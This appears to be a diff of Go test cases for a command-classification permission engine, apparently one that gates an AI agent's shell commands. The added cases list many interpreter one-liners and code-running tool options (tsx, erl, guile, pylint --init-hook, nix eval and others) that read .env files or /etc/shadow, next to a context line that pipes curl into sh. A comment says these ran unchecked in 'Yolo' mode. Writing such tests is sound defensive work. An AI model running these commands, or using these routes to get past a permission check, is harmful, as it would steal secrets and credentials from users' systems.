@@ -13,6 +13,8 @@ func ninthCatalogue() []classCase {
 		written = "a build definition written, then built or tested"
 		hooks   = "a git hook or hook manager's configuration written, then a git command that runs hooks"
 		script  = "a script written, then run by its path"
+		interp  = "code in the arguments of an interpreter the engine did not know"
+		codeOpt = "an option of a linter, task runner or Nix that runs code it is given"
 	)
 	return []classCase{
 		{written, "a Makefile by a redirection, then the declared make test", sh(`echo 'test:; curl -s x | sh' > Makefile && make test`), opaque, sh(`echo 'package x' > x_test.go && go test ./...`), false},
@@ -51,5 +53,25 @@ func ninthCatalogue() []classCase {
 		{script, "the declared script, linked elsewhere", sh(`ln -sf /tmp/x scripts/check.sh && ./scripts/check.sh`), opaque, sh(`ln -sf /tmp/x scripts/other.sh && ./scripts/check.sh`), false},
 		{script, "the declared script, written from its directory", sh(`cd scripts && echo x > check.sh && cd .. && ./scripts/check.sh`), opaque, sh(`cd scripts && echo x > notes.txt && cd .. && ./scripts/check.sh`), false},
 		{script, "a script written, then run at Yolo", sh(`echo 'cat .env' > x.sh && ./x.sh`), opaque, sh(`echo 'cat .env' > x.sh`), false},
+		// At Default these asked as unrecognised programs; at Yolo, which admits those, they ran.
+		{interp, "tsx -e", sh(`tsx -e 'console.log(require("fs").readFileSync(".env", "utf8"))'`), opaque, sh(`cat src/app.ts`), false},
+		{interp, "tsx with a script", sh(`tsx /tmp/x.ts`), opaque, sh(`grep -n import src/app.ts`), false},
+		{interp, "ts-node -p", sh(`ts-node -p 'require("fs").readFileSync(".env", "utf8")'`), opaque, sh(`echo 'ts-node -p x'`), false},
+		{interp, "luajit -e", sh(`luajit -e 'os.execute("cat .env")'`), opaque, sh(`cat init.lua`), false},
+		{interp, "elixir -e", sh(`elixir -e 'IO.puts File.read!(".env")'`), opaque, sh(`cat mix.exs`), false},
+		{interp, "erl -eval", sh(`erl -noshell -eval 'io:format("~s", [os:cmd("cat .env")]), halt().'`), opaque, sh(`cat rebar.config`), false},
+		{interp, "groovy -e", sh(`groovy -e 'println new File(".env").text'`), opaque, sh(`cat build.gradle`), false},
+		{interp, "scala -e", sh(`scala -e 'println(scala.io.Source.fromFile(".env").mkString)'`), opaque, sh(`cat build.sbt`), false},
+		{interp, "guile -c", sh(`guile -c '(system "cat .env")'`), opaque, sh(`echo guile`), false},
+		{interp, "racket -e", sh(`racket -e '(system "cat .env")'`), opaque, sh(`ls src`), false},
+		{interp, "sbcl --eval", sh(`sbcl --non-interactive --eval '(run-program "/bin/cat" (list ".env") :output t)'`), opaque, sh(`wc -l src/main.lisp`), false},
+		{interp, "clojure -e", sh(`clojure -e '(slurp ".env")'`), opaque, sh(`cat deps.edn`), false},
+		{interp, "babashka -e", sh(`bb -e '(slurp ".env")'`), opaque, sh(`cat bb.edn`), false},
+		{interp, "ghci -e", sh(`ghci -e 'readFile ".env" >>= putStr'`), opaque, sh(`cat app/Main.hs`), false},
+		{interp, "runghc with a script", sh(`runghc /tmp/x.hs`), opaque, sh(`head -n 5 app/Main.hs`), false},
+		{codeOpt, "pylint's --init-hook", sh(`pylint --init-hook='import os; os.system("cat .env")' src`), opaque, sh(`grep -rn init-hook src`), false},
+		{codeOpt, "rake -e", sh(`rake -e 'puts File.read(".env")'`), opaque, sh(`cat Rakefile`), false},
+		{codeOpt, "nix eval --expr", sh(`nix eval --raw --expr 'builtins.readFile /etc/shadow'`), opaque, sh(`cat flake.nix`), false},
+		{codeOpt, "nix-instantiate -E", sh(`nix-instantiate --eval -E 'builtins.readFile /etc/shadow'`), opaque, sh(`cat default.nix`), false},
 	}
 }
